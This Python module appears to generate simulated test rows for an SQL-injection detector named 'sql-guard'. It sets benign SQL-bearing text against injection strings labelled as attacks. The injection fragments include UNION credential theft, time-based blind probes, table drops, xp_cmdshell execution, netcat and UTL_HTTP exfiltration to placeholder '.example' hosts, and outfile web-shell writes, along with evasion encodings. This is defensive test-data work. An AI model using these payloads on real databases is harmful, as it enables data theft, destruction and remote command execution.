"""Rows that judge `sql-guard` where no public data can be had; nothing here is ever trained on.

Texts that quote SQL, values of small languages, statements of tools, and injections, written apart
from what the other `sql_*` generators write: other sentences, other names, other words, other
forms. Results on them are *simulated*.
"""

import random
from urllib.parse import quote

PEOPLE = """Aisling Ó'Dálaigh|Thabo M'beki|Giulia Dell'Orto|Tāne Te'o|Mei-Ling Ts'ao|Bo Derek's
|Yasmin Al-Sha'ar|Pierre L'Enfant|Marijke 't Lam|Kofi N'Dri""".replace("\n", "").split("|")
THINGS = """boiler valve lease harbour tariff canal parcel clinic roster ledger badge quota pallet
 vessel voucher cohort exam pump tenant shelf kiosk beacon""".split()
FIELDS = """colour qty_left opened_on owner_ref shelf_no grade unit_cost dock_code lang tier nick
 closed_by due_on vat_rate""".split()
STATEMENTS = """\
SELECT {f}, {g} FROM {t}s WHERE {f} = '{w}'
select count(*) from {t}s where {f} is null
SELECT {f} FROM {t}s UNION SELECT {g} FROM {t2}s
UPDATE {t}s SET {f} = {f} + 1 WHERE {g} IN (1, 2, 3)
DELETE FROM {t}s WHERE {f} < CURRENT_DATE - 90
INSERT INTO {t}s ({f}, {g}) VALUES ('{w}', {n})
SELECT t.* FROM {t}s t JOIN {t2}s u ON u.{f} = t.{f} OR u.{g} IS NULL
DROP INDEX idx_{f}
SELECT MAX({f}) FROM {t}s GROUP BY {g} HAVING COUNT(*) > {n}
ALTER TABLE {t}s ADD COLUMN {f} text
SELECT * FROM {t}s WHERE {f} LIKE '{w}%' ORDER BY {g} LIMIT {n}
SELECT 1 UNION ALL SELECT 2 UNION ALL SELECT {n}
TRUNCATE {t}s""".splitlines()
TEXTS = """\
After the upgrade the nightly job prints "{q}" twice, {p} thinks that the cache is stale.
Could somebody explain to me what {q} is supposed to return when {f} has no rows?
We moved the {t} report from {q} to a view; the old text is kept in the wiki.
[{n}] worker-{n} took {n}ms for <{q}> (rows={n})
FATAL could not run '{q}': no such table {t}s
{p} wrote on Tuesday: 'never start {q} before lunch' -- and then did it anyway
Chapter {n}. Reading rows. The statement {q} reads; the statement {q} writes.
bug {n}: selecting a {t} from the dropdown, then pressing delete or update, shows "{q}"
perf: {q} scanned the whole {t}s table, now it uses an index on {f}
chore(db): drop unused {f}, union of both {t} lists is computed in code
If {f} = '{w}' or {g} = '{w}', the {t} is shown in red; in all other cases it isn't.
Quick tip; instead of {q} try a window function, it's far quicker!
Exception in thread "{t}-1" SqlError: [{n}] at "{q}" near position {n}
You'd write: {q}; -- this lists every {t}
I've got 2 tables, {t}s and {t2}s. {q} works, but adding ORDER BY {f} doesn't. Why?
-- {t} migration {n}\\n{q};\\n-- that's all, thanks {p}
```\\n{q}\\n```\\nreturns an empty set on staging, {p} sees {n} rows on prod
SQL for beginners: WHERE narrows, HAVING filters groups, UNION stacks, JOIN widens.
The ORM emits `{q}` for each {t}: a classic N+1, isn't it?
{p}: "select all, then drop the {t} onto the union list" (from the manual, p. {n})
DBA note -- run VACUUM after {q} or the table {t}s keeps its size
In Postgres ';' ends a statement, '--' begins a comment, and quotes ('') are doubled.
statement="{q}" user={w} elapsed={n} ok=true
TypeError: can't adapt type '{t}' while executing {q}
Please approve: {q} on {t}s (ticket OPS-{n}, asked for by {p})""".splitlines()
VALUES = """\
{p}
{p} & Sons; {t} dept.
{w} near:{w} OR "{w} {w}" -{w}
lang eq '{w}' or tier ge {n}
not(grade eq '{w}') and (colour ne '{w}' or contains(nick,'{w}'))
NOT nick:{w} && (grade:{n} || grade:"{w}")
=IF(OR(C{n}="{w}",D{n}<{n}),"{w}'s","")
=INDEX('{w} sheet'!A:A;MATCH("{w}";B:B;0))
(3x - {n})(x + 1) = 0 or x != {n}
sin'(x) = cos(x), g''(0) = {n}
const {w} = '{w}' || "{w}"; // {n}
while ({w} != '{w}' && i-- > {n}) { }
tar -czf '{w}.tgz' --exclude="{w}" ./{w} # {n}
[a-z]+['"]?\\s*(or|and)\\s*\\d*
#menu li:not('.{w}')::before{content:'{w}';margin:0 -{n}px}
_{w}_ -- **it's** `{w} = '{w}'`
{"{t}":{"nick":"{p}","tier":{n},"tags":["or","and","select"]}}
(|(nick={w})(&(tier>={n})(!(lang={w}))))
6' 2" ({n} lb)
{n}/{n} or so
{w}' {w}
the {t}s' {t2}
"{w}", '{w}' or {w}
{w}; drop by for {t}
union {t} {n}
select {t}s from our {w} range
order by phone, {w}
-{n}
{w}%20{w}%27s
{w}&#39;s {t}
\\u0027{w}\\u0027
<{t} nick='{w}'>{p}</{t}>
{w}--{w}--{n}
$${w}$$
{w}@{w}.nu, {p}
2 > 1 is true
/* {w} {n} */
{w} #{n}
'{w}'
{w}''s
N'{w}""".splitlines()
TOOLS = """\
SELECT {n} AS a, '{w}' AS b UNION ALL SELECT {n}, '{w}'
WITH src(k, v) AS (SELECT 1, '{w}' UNION SELECT 2, '{w}') SELECT k FROM src WHERE TRUE
SELECT * FROM {t} AS l INNER JOIN {t2} AS r ON 1 = 1
SELECT l.{f} FROM {t} l WHERE (((1 = 1))) AND l.{g} = :p0
SELECT /* a */ {f} /* b */ FROM /* c */ {t} -- d
SELECT ((TRUE)), (NULL), ((({n})))
({f} + {n}) * 2 > {g}
CASE {f} WHEN 1 THEN '{w}' ELSE NULL END
SELECT {f}, SUM({g}) OVER (ORDER BY {f} ROWS 3 PRECEDING) FROM {t}
MERGE INTO {t} USING (VALUES ({n}, '{w}')) AS s(a, b) ON {t}.{f} = s.a WHEN MATCHED THEN UPDATE SET {g} = s.b
SELECT {t}_.{f} AS {f}1_ FROM {t} {t}_ WHERE {t}_.{g}=? OR ? IS NULL
SELECT "{t}"."{f}" FROM "{t}" WHERE ("{t}"."{g}" = 'O''Hara' OR "{t}"."{g}" = '') LIMIT 21
SELECT {f} FROM {t} /*app='{w}',route='%2F{w}'*/
SELECT pid, query FROM pg_stat_activity WHERE query NOT ILIKE '%{w}%'
SHOW STATUS WHERE Variable_name = '{w}'
SELECT data->'{w}' FROM {t} WHERE data @> '{"{f}": "{w}"}'
CREATE TABLE {t} ({f} int, {g} text DEFAULT '{w}', CHECK ({f} > 0))
VALUES (1, '{w}'), (2, NULL)
EXPLAIN SELECT {f} FROM {t} WHERE {f} = {n} OR {g} = {n}
DECLARE @x int = {n}; SELECT @x AS {f}
INSERT INTO {t} SELECT {f}, '{w}' FROM {t2} WHERE 1 = 0
SELECT $x$ {w}'s -- {w} $x$
SET SESSION {f} = '{w}'""".splitlines()
OPEN = """{w}'|{w}"|'|"|{w}')|{w}'))|{n})|{n}|-{n}|{w}%'|{w}\\'|{n}'|{w}'))) """.split("|")
# Those that end a string of a statement.
QUOTED = [start for start in OPEN if "'" in start and "\\" not in start]
MIDDLE = """\
 or {n}={n}
 or '{w}'='{w}'
 or '{w}' like '{w}
 and {n}>{n} union select {n},{n},'{w}'
 union all select nick,passphrase from staff
 union select null,null,version()
 and (select substr(passphrase,{n},1) from staff limit 1)='{w}
 and if(length(database())>{n},sleep({n}),0)
 or pg_sleep({n}) is null
;waitfor delay '0:0:{n}'
;drop table {t}s
;update staff set tier=9 where nick='{w}'
;declare @z varchar(99);set @z='whoami';exec xp_cmdshell @z
;copy staff to program 'nc {w}.example 9'
 and extractvalue(1,concat(0x7e,(select passphrase from staff)))
 and 1=cast((select nick from staff) as int)
 or ascii(mid((select @@version),{n},1))>{n}
 or {n} between {n} and {n}0
 or '{w}' in ('{w}')
 or not exists(select * from staff where {n}>{n})
 or json_extract('{"k":{n}}','$.k')={n}
 order by {n}
 group by nick having {n}={n}
||(select passphrase from staff where rownum=1)||
 and utl_http.request('http://{w}.example/'||user) is not null
 and load_file(concat('\\\\\\\\',database(),'.{w}.example\\\\z')) is null
 procedure analyse(extractvalue(1,concat(0x5c,user())),1)
 into outfile '/srv/www/{w}.php'
 xor {n}={n}
 and (case when {n}={n} then 1 else 1/0 end)=1""".splitlines()
CLOSE = ["-- ", "--", "#", "/*", ";--", " -- {w}", "%00", "", "' and '{w}'='{w}", " and '1'='1"]
BLANKS = [" ", " ", " ", " ", " ", "/**/", "\t", "%0a", "+", "%20", "  ", "/*{w}*/", "%0c", "\u00a0"]
HOSTS = """\
SELECT {f} FROM {t} WHERE {g} = '{x}' LIMIT 1
SELECT {f} FROM {t} WHERE {g} = {n} AND nick = '{x}'
UPDATE {t} SET {f} = '{x}' WHERE {g} = {n}
INSERT INTO {t} ({f}, {g}) VALUES ('{x}', {n})
DELETE FROM {t} WHERE {g} LIKE '%{x}%'""".splitlines()


def word(rng):
    ends, starts = ["on", "er", "ix", "al", "um", "a"], "bcdfglmnprstvz"
    return rng.choice(starts) + rng.choice("aeiou") + rng.choice(starts) + rng.choice(ends)


def filled(rng, text, **more):
    places = {
        "{q}": lambda: filled(rng, rng.choice(STATEMENTS)),
        "{t2}": lambda: rng.choice(THINGS),
        "{t}": lambda: rng.choice(THINGS),
        "{f}": lambda: rng.choice(FIELDS),
        "{g}": lambda: rng.choice(FIELDS),
        "{p}": lambda: rng.choice(PEOPLE),
        "{w}": lambda: word(rng),
        "{n}": lambda: str(rng.randint(1, 10 ** rng.randint(1, 4))),
    }
    for place, make in places.items():
        while place in text:
            text = text.replace(place, make(), 1)
    return text.replace("\\n", "\n")


def injection(rng, opens):
    start = rng.choice(opens)
    middle = rng.choice(MIDDLE)
    close = rng.choice(CLOSE)
    if "'" not in start and close.startswith("'"):
        close = ""
    same = str(rng.randint(1, 9999))
    middle = middle.replace("{n}={n}", f"{same}={same}").replace("'{w}'='{w}'", "'q'='q'")
    blank = rng.choice(BLANKS)
    text = filled(rng, start + middle + close)
    text = text.replace(" ", filled(rng, blank))
    draw = rng.random()
    if draw < 0.2:
        text = text.upper()
    elif draw < 0.3:
        text = "".join(c.upper() if at % 2 else c for at, c in enumerate(text))
    if 0.3 < draw < 0.45:
        text = quote(text)
    elif 0.45 < draw < 0.5:
        text = text.replace("'", rng.choice(["&#39;", "%2527", "%u0027", "\\u0027", "%c0%a7"]))
    return text


def attack(rng):
    """A value, or a statement that it was pasted into so that it breaks out of its place."""
    if rng.random() < 0.7:
        return "param", injection(rng, OPEN)
    host = rng.choice(HOSTS)
    return "query", filled(rng, host).replace("{x}", injection(rng, QUOTED))


def rows(count, seed):
    """`count` rows of each of four sets at most."""
    rng = random.Random(seed)
    sets = [
        ("simulated: texts that quote SQL", 0, lambda: ("free_text", filled(rng, rng.choice(TEXTS)))),
        ("simulated: values", 0, lambda: ("param", filled(rng, rng.choice(VALUES)))),
        ("simulated: statements of tools", 0, lambda: ("query", filled(rng, rng.choice(TOOLS)))),
        ("simulated: injections", 1, lambda: attack(rng)),
    ]
    for source, label, make in sets:
        seen = set()
        for _ in range(count * 3):
            kind, text = make()
            if text not in seen and len(seen) < count:
                seen.add(text)
                yield {"text": text, "kind": kind, "label": label, "source": source,
                       "label_quality": "simulated"}
